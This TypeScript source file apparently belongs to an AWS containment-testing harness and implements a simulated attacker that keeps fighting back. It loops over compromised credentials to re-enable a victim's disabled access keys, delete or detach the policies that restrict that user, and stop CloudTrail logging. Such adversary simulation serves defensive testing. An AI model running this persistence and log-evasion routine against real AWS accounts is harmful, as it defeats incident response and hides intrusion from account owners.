import { setTimeout as delay } from 'node:timers/promises';
import { StopLoggingCommand } from '@aws-sdk/client-cloudtrail';
import { DeleteUserPolicyCommand, DetachUserPolicyCommand, ListAccessKeysCommand, ListAttachedUserPoliciesCommand, ListUserPoliciesCommand, UpdateAccessKeyCommand } from '@aws-sdk/client-iam';
import { clientsFor, type Clients } from '../clients';
import type { Aws } from '../start';
import type { AwsWorld } from '../world';
import { hostile } from './tools';
import type { Live } from './types';

export interface Undone { at: string; what: string; by: string }

export interface Undoer {
  /** What it managed to undo, in order. */
  undone: readonly Undone[];
  /** True when no credential of its is accepted any more. */
  beaten(): boolean;
  stop(): Promise<void>;
}

/** An attacker who fights back: as long as one credential works, it re-enables the victim's key, removes what denies them, and stops the trail again. */
export function fightBack(aws: Aws, world: AwsWorld, credentials: readonly Live[], everyMs = 100): Undoer {
  const undone: Undone[] = [];
  let stopped = false;
  let refused = 0;
  const clients = credentials.map((one) => ({ by: one.what, as: clientsFor(aws.endpoint, one.keys, { ...hostile, region: world.regions[0] }) }));
  const run = async (): Promise<void> => {
    while (!stopped) {
      refused = 0;
      for (const { by, as } of clients) {
        if (stopped) break;
        const before = undone.length;
        const tried = await once(as, world, (what) => undone.push({ at: new Date().toISOString(), what, by }));
        if (!tried && undone.length === before) refused += 1;
      }
      await delay(everyMs);
    }
  };
  const running = run();
  return {
    undone,
    beaten: () => refused === clients.length,
    stop: async () => {
      stopped = true;
      await running;
      for (const { as } of clients) as.close();
    },
  };
}

/** True when at least one call was allowed. */
async function once(as: Clients, world: AwsWorld, say: (what: string) => void): Promise<boolean> {
  const UserName = world.dana.name;
  let allowed = false;
  const attempt = async (act: () => Promise<void>): Promise<void> => {
    try {
      await act();
      allowed = true;
    } catch {
      // Refused, or gone: the next round tries again.
    }
  };
  await attempt(async () => {
    for (const { AccessKeyId, Status } of (await as.iam.send(new ListAccessKeysCommand({ UserName }))).AccessKeyMetadata ?? []) {
      if (Status !== 'Inactive') continue;
      await as.iam.send(new UpdateAccessKeyCommand({ UserName, AccessKeyId, Status: 'Active' }));
      say(`re-enabled ${AccessKeyId}`);
    }
  });
  await attempt(async () => {
    for (const PolicyName of (await as.iam.send(new ListUserPoliciesCommand({ UserName }))).PolicyNames ?? []) {
      await as.iam.send(new DeleteUserPolicyCommand({ UserName, PolicyName }));
      say(`deleted ${PolicyName} from ${UserName}`);
    }
  });
  await attempt(async () => {
    for (const { PolicyArn, PolicyName } of (await as.iam.send(new ListAttachedUserPoliciesCommand({ UserName }))).AttachedPolicies ?? []) {
      if (PolicyName === 'AdministratorAccess') continue;
      await as.iam.send(new DetachUserPolicyCommand({ UserName, PolicyArn }));
      say(`detached ${PolicyName} from ${UserName}`);
    }
  });
  await attempt(async () => void (await as.cloudtrail.send(new StopLoggingCommand({ Name: world.names.trail }))));
  return allowed;
}
